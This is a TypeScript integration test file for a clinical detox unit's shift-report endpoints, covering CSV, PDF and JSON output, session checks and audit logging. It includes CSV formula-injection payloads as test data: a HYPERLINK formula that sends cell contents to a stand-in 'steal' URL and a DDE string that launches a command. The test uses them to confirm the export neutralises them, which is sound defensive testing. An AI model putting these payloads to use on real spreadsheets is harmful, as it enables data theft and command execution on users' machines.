import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { formatDoseMg } from '@detox/shared';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { admitBody, cows18, doseBody, expectError, standingOrders, useApiServer } from '../support/api.js';
import { selectAll } from '../support/sqlite-counts.js';
import { SESSION_COOKIE, type TrpcHttp, dataOf } from '../support/trpc-http.js';

const api = useApiServer();

interface ReportDto {
  unit: { id: number; name: string; timeZone: string };
  window: { shiftStart: string; shiftEnd: string; label: string; inProgress: boolean; previousShiftStart: string; nextShiftStart: string | null };
  generatedBy: { name: string };
  totals: { census: number };
  patients: {
    bed: string;
    patient: { name: string };
    scores: unknown[];
    vitalsOutOfRange: unknown[];
    administrations: { drugName: string; doseMg: number; givenAt: string }[];
    overdue: unknown[];
    openAlerts: unknown[];
  }[];
}

interface Download {
  status: number;
  type: string | null;
  disposition: string | null;
  body: Buffer;
  /** tRPC's error shape: one error shape leaves the server (session resolver and downloads, issue 14). */
  json: () => { error: { code: number; message: string; data: { code: string; httpStatus: number; issues: { path: string; message: string }[] } } };
}

/** A plain GET as a browser link would make it, with the client's session cookie if it has one. */
async function download(client: TrpcHttp | null, pathAndQuery: string): Promise<Download> {
  const headers: Record<string, string> = client?.cookie ? { cookie: `${SESSION_COOKIE}=${client.cookie}` } : {};
  const response = await fetch(`${api.server.url}${pathAndQuery}`, { headers });
  const body = Buffer.from(await response.arrayBuffer());
  return {
    status: response.status,
    type: response.headers.get('content-type'),
    disposition: response.headers.get('content-disposition'),
    body,
    json: () => JSON.parse(body.toString('utf8')),
  };
}

function pdfToText(pdf: Buffer): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'detox-pdf-'));
  try {
    const file = path.join(dir, 'report.pdf');
    writeFileSync(file, pdf);
    return execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const COLUMNS = ['unit', 'shift_start', 'shift_end', 'bed', 'patient', 'mrn', 'illness_severity', 'event', 'time', 'item', 'value', 'unit_of_measure', 'band_or_status', 'route', 'prn', 'detail', 'record_status', 'recorded_by'];
const FORMULA_NOTE = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click me")';
const FORMULA_INDICATION = '@SUM(1+1) nausea';
const FORMULA_HOLD = '+cmd|" /C calc"!A0';

const eventCount = (r: ReportDto) => r.patients.reduce((n, p) => n + p.scores.length + p.vitalsOutOfRange.length + p.administrations.length + p.overdue.length + p.openAlerts.length, 0);
const auditCount = (entity: string) => selectAll<{ n: number }>(api.sqlitePath, 'select count(*) as n from audit_event where entity = ?', entity)[0]?.n ?? 0;

describe('shift report over HTTP', () => {
  let current: ReportDto;
  let chartedAt: string;

  beforeAll(async () => {
    current = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
    // Chart inside the current shift, text a spreadsheet would run as a formula included.
    chartedAt = new Date(Math.max(Date.parse(current.window.shiftStart) + 60_000, Date.now() - 10 * 60_000)).toISOString();
    const admissionId = (dataOf(await api.nurse.mutate('admissions.admit', admitBody(api.unitId, '4', 'API-REP-1', { admittedAt: chartedAt }))) as { admissionId: number }).admissionId;
    await standingOrders(api, admissionId);
    dataOf(await api.nurse.mutate('assessments.record', cows18(admissionId, { takenAt: chartedAt, note: FORMULA_NOTE })));
    dataOf(await api.nurse.mutate('medications.record', doseBody(admissionId, { givenAt: chartedAt, indication: FORMULA_INDICATION })));
    dataOf(await api.nurse.mutate('medications.record', doseBody(admissionId, { drug: 'ibuprofen', doseMg: 400, givenAt: chartedAt, status: 'held', holdReason: FORMULA_HOLD })));
    current = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
  });

  it('reports.shift gives the shift in progress, one section per occupied bed, and audits the read', async () => {
    const before = auditCount('shift-report');
    const report = dataOf(await api.physician.query<ReportDto>('reports.shift', { unitId: api.unitId }));
    expect(report.window.inProgress).toBe(true);
    expect(Date.parse(report.window.shiftStart)).toBeLessThanOrEqual(Date.now());
    expect(Date.parse(report.window.shiftEnd)).toBeGreaterThan(Date.now());
    expect(report.window.nextShiftStart).toBeNull();
    expect(report.patients.map((p) => p.patient.name)).toContain('Test Patient API-REP-1');
    expect(report.patients.map((p) => p.patient.name)).toContain('Maria Alvarez');
    expect(report.totals.census).toBe(report.patients.length);
    expect(report.generatedBy.name).toBe('Dr. Ben Carter');
    expect(auditCount('shift-report')).toBe(before + 1);
  });

  it('reports.shift takes an earlier shift by its start, and refuses a time that is not a start, naming the nearest starts', async () => {
    const previous = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId, shiftStart: current.window.previousShiftStart }));
    expect(previous.window.shiftEnd).toBe(current.window.shiftStart);
    expect(previous.window.inProgress).toBe(false);
    const off = new Date(Date.parse(current.window.previousShiftStart) + 30 * 60_000).toISOString();
    const res = await api.nurse.query('reports.shift', { unitId: api.unitId, shiftStart: off });
    expectError(res, { status: 400, code: 'BAD_REQUEST', message: /is not the start of a shift on Detox North .* the nearest shift starts are \S+ and \S+$/, issues: [{ path: 'shiftStart' }] });
    expectError(await api.nurse.query('reports.shift', { unitId: api.unitId, shiftStart: 'yesterday' }), { status: 400, code: 'BAD_REQUEST', issues: [{ path: 'shiftStart' }] });
    expectError(await api.nurse.query('reports.shift', { unitId: 987_654 }), { status: 404, code: 'NOT_FOUND', message: 'Unit 987654 does not exist' });
  });

  it('reports.shift needs a session', async () => {
    expectError(await api.anonymous.query('reports.shift', { unitId: api.unitId }), { status: 401, code: 'UNAUTHORIZED' });
  });

  it('GET /reports/shift.csv: a header and one row per event, formulas neutralised, audited', async () => {
    const before = auditCount('shift-report.csv');
    const res = await download(api.nurse, `/reports/shift.csv?unitId=${api.unitId}`);
    expect(res.status).toBe(200);
    expect(res.type).toBe('text/csv; charset=utf-8');
    expect(res.disposition).toMatch(/^attachment; filename="shift-report-detox-north-[a-z0-9-]+\.csv"$/);
    const rows: string[][] = parse(res.body, { bom: true, relax_column_count: false });
    expect(rows[0]).toEqual(COLUMNS);
    const records = rows.slice(1).map((r) => Object.fromEntries(COLUMNS.map((c, i) => [c, r[i] ?? ''])));
    const report = dataOf(await api.nurse.query<ReportDto>('reports.shift', { unitId: api.unitId }));
    expect(records).toHaveLength(eventCount(report));
    for (const r of records) expect(['score', 'vital-sign', 'administration', 'overdue-assessment', 'open-alert']).toContain(r.event);
    // Every charted event of the new patient is there, with the formulas turned into text.
    const mine = records.filter((r) => r.patient === 'Test Patient API-REP-1');
    const score = mine.find((r) => r.event === 'score');
    expect(score).toMatchObject({ bed: '4', item: 'COWS', value: '18', band_or_status: 'Moderate', detail: `'${FORMULA_NOTE}`, record_status: 'active', recorded_by: 'Ana Reyes, RN' });
    const given = mine.find((r) => r.event === 'administration' && r.band_or_status === 'given');
    expect(given).toMatchObject({ item: 'Ondansetron', value: '4', unit_of_measure: 'mg', route: 'PO', prn: 'yes', detail: `'${FORMULA_INDICATION}; PRN effect: not reassessed, before 18` });
    const held = mine.find((r) => r.event === 'administration' && r.band_or_status === 'held');
    expect(held).toMatchObject({ item: 'Ibuprofen', value: '400', detail: `'${FORMULA_HOLD}` });
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(auditCount('shift-report.csv')).toBe(before + 1);
  });

  it('GET /reports/shift.pdf: every patient and every dose of the shift, unit, shift, printer and page numbers on each page', async () => {
    const before = auditCount('shift-report.pdf');
    const res = await download(api.physician, `/reports/shift.pdf?unitId=${api.unitId}&shiftStart=${encodeURIComponent(current.window.previousShiftStart)}`);
    expect(res.status).toBe(200);
    expect(res.type).toBe('application/pdf');
    expect(res.body.subarray(0, 5).toString()).toBe('%PDF-');
    const report = dataOf(await api.physician.query<ReportDto>('reports.shift', { unitId: api.unitId, shiftStart: current.window.previousShiftStart }));
    const text = pdfToText(res.body);
    const pages = text.split('\f').filter((p) => p.trim().length > 0);
    expect(pages.length).toBeGreaterThan(1);
    pages.forEach((page, i) => {
      expect(page).toContain('Detox North · Shift handover report');
      expect(page).toContain(`Shift ${report.window.label}`);
      expect(page).toContain('by Dr. Ben Carter (physician)');
      expect(page).toContain(`Page ${i + 1} of ${pages.length}`);
    });
    for (const p of report.patients) expect(text).toContain(p.patient.name);
    const doses = report.patients.flatMap((p) => p.administrations);
    expect(doses.length).toBeGreaterThan(0);
    for (const d of doses) expect(text).toContain(`${d.drugName} ${formatDoseMg(d.doseMg)}`);
    expect(auditCount('shift-report.pdf')).toBe(before + 1);
  });

  it('GET /reports/downtime.pdf: a sheet per occupied bed with its doses of the last 24 h; unitId may be left out', async () => {
    const before = auditCount('downtime-snapshot');
    const res = await download(api.nurse, '/reports/downtime.pdf');
    expect(res.status).toBe(200);
    expect(res.type).toBe('application/pdf');
    const text = pdfToText(res.body);
    const pages = text.split('\f').filter((p) => p.trim().length > 0);
    pages.forEach((page, i) => {
      expect(page).toContain('Detox North · Downtime snapshot');
      expect(page).toContain(`Page ${i + 1} of ${pages.length}`);
    });
    // The nurse's only unit is Detox North (Detox South has its own sheet).
    const occupied = selectAll<{ name: string }>(api.sqlitePath, 'select p.name from admission a join patient p on p.id = a.patient_id where a.discharged_at is null and a.unit_id = ?', api.unitId);
    expect(occupied.length).toBeGreaterThan(0);
    for (const { name } of occupied) expect(text).toContain(name);
    const recent = selectAll<{ drug: string; dose_mg: number }>(
      api.sqlitePath,
      "select m.drug, m.dose_mg from medication_administration m join admission a on a.id = m.admission_id where a.discharged_at is null and m.given_at > ? and a.unit_id = ?",
      new Date(Date.now() - 23 * 3_600_000).toISOString(),
      api.unitId,
    );
    for (const m of recent) expect(text).toContain(`${m.drug[0]?.toUpperCase()}${m.drug.slice(1)} ${formatDoseMg(m.dose_mg)}`);
    expect(text).toContain('Due next');
    expect(auditCount('downtime-snapshot')).toBe(before + 1);
  });

  it('answers 401 JSON without a session on every download', async () => {
    for (const url of ['/reports/shift.csv', '/reports/shift.pdf', '/reports/downtime.pdf', '/exports/fhir?admissionId=1']) {
      const res = await download(null, url);
      expect(res.status, url).toBe(401);
      expect(res.type).toMatch(/^application\/json/);
      expect(res.json().error).toMatchObject({ code: -32001, data: { code: 'UNAUTHORIZED', httpStatus: 401 }, message: 'You are not logged in, or your session has ended; log in again' });
    }
    const forged = await fetch(`${api.server.url}/reports/shift.csv`, { headers: { cookie: `${SESSION_COOKIE}=not-a-session` } });
    expect(forged.status).toBe(401);
  });

  it('answers 400 for a bad unitId or shiftStart and 404 for an unknown unit, with a clear message', async () => {
    for (const file of ['shift.csv', 'shift.pdf']) {
      const bad = await download(api.nurse, `/reports/${file}?unitId=north`);
      expect(bad.status).toBe(400);
      expect(bad.json().error).toMatchObject({ data: { code: 'BAD_REQUEST', issues: [{ path: 'unitId' }] }, message: 'unitId: unitId must be a whole number id, such as unitId=1' });
      const off = await download(api.nurse, `/reports/${file}?unitId=${api.unitId}&shiftStart=${encodeURIComponent('2026-01-15T08:00:00-05:00')}`);
      expect(off.status).toBe(400);
      expect(off.json().error.message).toBe(
        '2026-01-15T08:00:00-05:00 is not the start of a shift on Detox North (shifts start at 07:00 and 19:00, America/New_York time); the nearest shift starts are 2026-01-15T07:00:00-05:00 and 2026-01-15T19:00:00-05:00',
      );
      const noOffset = await download(api.nurse, `/reports/${file}?shiftStart=2026-01-15T07:00:00`);
      expect(noOffset.status).toBe(400);
      expect(noOffset.json().error.data.issues[0]).toMatchObject({ path: 'shiftStart' });
      const unknown = await download(api.nurse, `/reports/${file}?unitId=987654`);
      expect(unknown.status).toBe(404);
      expect(unknown.json().error).toMatchObject({ data: { code: 'NOT_FOUND' }, message: 'Unit 987654 does not exist' });
    }
    expect((await download(api.nurse, '/reports/downtime.pdf?unitId=0')).status).toBe(400);
    expect((await download(api.nurse, '/reports/downtime.pdf?unitId=987654')).status).toBe(404);
  });
});
